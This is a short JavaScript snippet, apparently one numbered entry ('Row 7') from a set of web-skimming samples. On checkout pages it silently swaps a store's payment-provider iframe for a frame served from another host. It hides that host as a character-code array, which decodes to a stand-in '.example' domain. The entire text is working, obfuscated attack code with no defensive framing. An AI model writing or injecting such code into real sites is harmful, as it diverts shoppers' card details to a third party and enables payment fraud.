// Row 7: the provider's frame is exchanged for another one.
(function () {
  var real = [112, 97, 121, 45, 102, 114, 97, 109, 101, 46, 101, 120, 97, 109, 112, 108, 101];
  if (window.location.href.indexOf('onepage') < 0 && window.location.href.indexOf('checkout') < 0) return;
  new MutationObserver(function () {
    var f = document.querySelector('#payment-frame iframe');
    if (f && !f.dataset.ok) { f.dataset.ok = 1; f.src = 'https://' + String.fromCharCode.apply(null, real) + '/hosted?m=' + f.id; }
  }).observe(document.body, { childList: true, subtree: true });
})();
